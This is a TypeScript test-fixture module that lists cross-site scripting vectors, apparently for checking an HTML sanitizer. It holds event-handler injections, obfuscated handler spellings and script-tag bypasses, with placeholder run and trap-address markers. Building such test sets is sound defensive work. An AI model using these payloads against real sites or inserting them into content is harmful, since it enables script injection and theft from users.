/**
 * Attacks by class. `{RUN}` stands for a script that reports itself, `{TRAP}` for an address nothing may ask for; both are
 * made the attack's own before it is tried (see dress.ts).
 */
import type { Vector } from './vector.ts';
import { documentVectors } from './vectors-document.ts';
import { mutationVectors } from './vectors-mutation.ts';
import { schemeVectors } from './vectors-schemes.ts';

const elementsOfHandlers = ['p', 'a href="https://example.org/"', 'img src="{TRAP}/x.png"', 'details open'];
const handlers =
  'abort animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforetoggle beforexrselect blur cancel canplay change click close contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop error focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste play pointercancel pointerdown pointerenter pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange readystatechange reset resize scroll scrollend scrollsnapchange securitypolicyviolation seeked select selectionchange selectstart slotchange stalled submit suspend timeupdate toggle touchend touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend webkitmouseforcechanged webkittransitionend wheel'.split(
    ' ',
  );

const byHandler: Vector[] = handlers.map((name, index) => {
  const element = elementsOfHandlers[index % elementsOfHandlers.length] ?? 'p';
  const tag = element.split(' ')[0] ?? 'p';
  return { name: `handler/${name}`, html: `<${element} on${name}="{RUN}" tabindex=0>text</${tag}>` };
});

const handlerSpellings = [
  '<img src=x onerror={RUN}>',
  '<img src=x OnErRoR={RUN}>',
  '<img/src=x/onerror={RUN}>',
  '<img src=x\fonerror={RUN}>',
  '<img src=x\u000bonerror={RUN}>',
  '<img src=x onerror\n=\n{RUN}>',
  '<img src=x onerror\u0000={RUN}>',
  '<img src=x o\u0000nerror={RUN}>',
  '<img src=x onerror="&#x7b;{RUN}&#x7d;">',
  '<img src=x on&#101;rror={RUN}>',
  '<img src="x" alt="`"onerror={RUN}>',
  '<img src=`x`onerror={RUN}``>',
  "<img src='x'\"onerror={RUN}>",
  '<img """><img src=x onerror={RUN}>">',
  '<img src=x:x alt=">" onerror={RUN}>',
  '<img src=x title="a\'b>c" onerror={RUN} title="d">',
  '<img src=x =" onerror={RUN}>',
  '<img src=x a=b=c onerror={RUN}//',
  '<img src=x onerror={RUN} <p>cut',
  '< img src=x onerror={RUN}>',
  '<%<img src=x onerror={RUN}>%>',
  '<?<img src=x onerror={RUN}>?>',
  '<!<img src=x onerror={RUN}>>',
  '</<img src=x onerror={RUN}>>',
  '<a<img src=x onerror={RUN}>',
  '<ımg src=x onerror={RUN}>',
  '<img src=x ｏnerror={RUN}>',
  '＜img src=x onerror={RUN}＞',
  '<img src=x xmlns:onerror="a" a:onerror={RUN}>',
  '<custom-element onclick={RUN} autofocus tabindex=1 onfocus={RUN}>text</custom-element>',
  '<video autoplay onloadstart={RUN}><source onerror={RUN} src=x></video>',
  '<audio src onerror={RUN} controls></audio>',
  '<body onload={RUN}><frameset onload={RUN}>',
  '<marquee onstart={RUN} loop=1>text</marquee>',
  '<input type=image src=x onerror={RUN}><input type=checkbox checked onclick={RUN}>',
  '<input autofocus onfocus={RUN}><select autofocus onfocus={RUN}><textarea autofocus onfocus={RUN}>',
  '<button popovertarget=p onclick={RUN}>open</button><div popover id=p onbeforetoggle={RUN}>text</div>',
  '<div contenteditable onbeforeinput={RUN} oninput={RUN}>type</div>',
  '<dialog open onclose={RUN}><form method=dialog><button>close</button></form></dialog>',
  '<track default src="{TRAP}/t.vtt" oncuechange={RUN}><video><track default oncuechange={RUN} src="data:text/vtt,WEBVTT"></video>',
].map((html, index) => ({ name: `handler-spelling/${index}`, html }));

const scripts = [
  '<script>{RUN}</script>',
  '<SCRIPT\n>{RUN}</SCRIPT\n>',
  '<script/x>{RUN}</script/y>',
  '<script src="{TRAP}/s.js"></script>',
  '<script src=//{TRAP}/s.js>',
  '<script type=module>import "{TRAP}/m.js";{RUN}</script>',
  '<script type="text/template"><img src=x onerror={RUN}></script>',
  '<script type=speculationrules>{"prerender":[{"urls":["{TRAP}/spec"]}]}</script>',
  '<script type=importmap>{"imports":{"a":"{TRAP}/a.js"}}</script>',
  '<scr<script>ipt>{RUN}</scr</script>ipt>',
  '<<script>script>{RUN}<</script>/script>',
  '<script>{RUN}//',
  '<script>{RUN}<!--',
  '<!--><script>{RUN}</script>-->',
  '<!---><script>{RUN}</script>-->',
  '<!--!><script>{RUN}</script>--!>',
  '<!-- --!><script>{RUN}</script><!-- -->',
  '<![CDATA[<script>{RUN}</script>]]>',
  '<![CDATA[><script>{RUN}</script>]]>',
  '<?xml version="1.0"?><script>{RUN}</script>',
  '<script\u0000>{RUN}</script>',
  '<s\u0000cript>{RUN}</s\u0000cript>',
  '<ſcript>{RUN}</ſcript>',
  '&lt;script&gt;{RUN}&lt;/script&gt;',
  '&#60;script&#62;{RUN}&#60;/script&#62;',
  '&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;',
  '+ADw-script+AD4-{RUN}+ADw-/script+AD4-',
  '<svg><script>{RUN}</script></svg>',
  '<svg><script href="{TRAP}/s.js"/></svg>',
  '<svg><script>&#123;{RUN}&#125;</script></svg>',
  '<math><script>{RUN}</script></math>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script>',
  '<noscript><script>{RUN}</script></noscript>',
  '<gist-embed src="https://gist.github.com/a/b.js"></gist-embed><script src="https://gist.github.com/a/b.js?x={TRAP}"></script>',
].map((html, index) => ({ name: `script/${index}`, html }));

export const vectors: readonly Vector[] = [
  ...byHandler,
  ...handlerSpellings,
  ...scripts,
  ...schemeVectors,
  ...mutationVectors,
  ...documentVectors,
];
